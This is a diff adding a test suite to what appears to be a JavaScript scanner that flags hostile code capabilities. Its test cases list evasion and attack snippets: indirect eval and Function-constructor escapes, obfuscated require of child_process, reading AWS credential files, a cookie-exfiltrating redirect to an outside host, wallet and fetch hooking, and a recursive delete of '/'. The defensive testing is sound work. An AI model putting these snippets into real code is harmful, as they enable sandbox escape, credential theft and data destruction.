@@ -233,6 +233,70 @@ describe('how code is written', () => {
   })
 })
 
+describe('a way round', () => {
+  it.each([
+    ['Reflect.get(globalThis, "eval")("x=1")', '!evaluation'],
+    ['[].constructor.constructor("return process")()', 'evaluation'],
+    ['(()=>{})["constructor"]("return process.env")()', 'evaluation'],
+    ['const F = Function; new F("return 1")()', 'evaluation'],
+    ['const e = eval; e("x=1")', 'evaluation'],
+    ['eval.call(null, "x=1")', 'evaluation'],
+    ['globalThis["process"]["getBuiltinModule"]("child_process")', 'process'],
+    ['process["binding"]("spawn_sync")', 'native'],
+    ['import("data:text/javascript,run(1)")', 'evaluation'],
+    [`import("data:text/javascript;base64,${btoa('import("child_process")')}")`, '!process'],
+    ['WebAssembly.instantiate(bytes)', 'native'],
+    ['new Worker(text, { eval: true })', 'evaluation'],
+    ['new module.constructor()._compile(text, "")', 'evaluation'],
+    ['require("./README.md")', 'evaluation'],
+    ['require.extensions[".txt"] = run', 'evaluation'],
+    ['new (require("node:vm").Script)(text)', 'evaluation'],
+    ['require(unescape("%63%68%69%6c%64%5f%70%72%6f%63%65%73%73"))', '!process'],
+    ['require("xchild_processx".slice(1, -1))', '!process'],
+    ['require("abcchild_process".substring(3))', '!process'],
+    ['const o = { a: "child_", b: "process" }; require(o.a + o.b)', '!process'],
+    ['const w = ["exec", "child_process"]; require(w[1])[w[0]]("id")', 'process'],
+    ['Bun.spawn(["id"])', 'process'],
+    ['new Deno.Command("sh", {})', 'process'],
+    ['join(homedir(), ".aws", "credentials")', 'credentials'],
+    ['location.href = "https://a.zz/?c=" + document.cookie', 'credentials'],
+    ['window["ethereum"].request()', 'interception'],
+    ['window.solana.signTransaction = f', 'interception'],
+    ['window["fetch"] = f', 'interception'],
+    ['Object.defineProperty(XMLHttpRequest.prototype, "send", { value: f })', 'interception'],
+    ['Array.prototype.map = function (f) {}', 'interception'],
+    ['const h = require("https"); h.request = f', 'interception'],
+    ['navigator.clipboard.readText()', 'interception'],
+    ['rmSync("/", { recursive: true })', 'outside'],
+    ['new RTCPeerConnection({})', 'network'],
+  ])('%s is named', (text, kind) => {
+    expect(behaviourOf(text).capabilities.map(({ kind: what, concealed }) => (concealed ? '!' : '') + what)).toContain(
+      kind,
+    )
+  })
+
+  it.each([
+    'Reflect.get(target, "constructor")',
+    'var $Function = Function; if (x instanceof Function) y()',
+    'const F = Function; F("return this")()',
+    'if (!Array.prototype.at) Array.prototype.at = function (n) {}',
+    'const slice = Array.prototype.slice; slice.call(a)',
+    'x.constructor === Object; x["constructor"](1)',
+    'require("./data.json"); require("./lib/a"); require("./pic.png")',
+    'const all = ["assert", "buffer", "child_process", "cluster", "console", "crypto", "dns"]',
+    'const image = "data:image/png;base64,AAAA"',
+    'const types = { ".aws": 1, a: [".docker", ".kube"] }',
+    'if (document.cookie) parse(document.cookie)',
+    'decodeURIComponent("a%20b"); unescape(x)',
+    'import x from "./readme.md"; a.slice(1); "abc".slice(1)',
+    'unlinkSync(file); rmSync("./dist")',
+    'WebAssembly.Memory; Bun.version; Deno.env.get("A")',
+    'JSON.stringify(a); a.b + a.c',
+  ])('%s is ordinary', (text) => {
+    expect(behaviourOf(text).capabilities).toEqual([])
+  })
+})
+
 describe('a hostile text', () => {
   const long = 'a'.repeat(1_000_000)
   it.each([
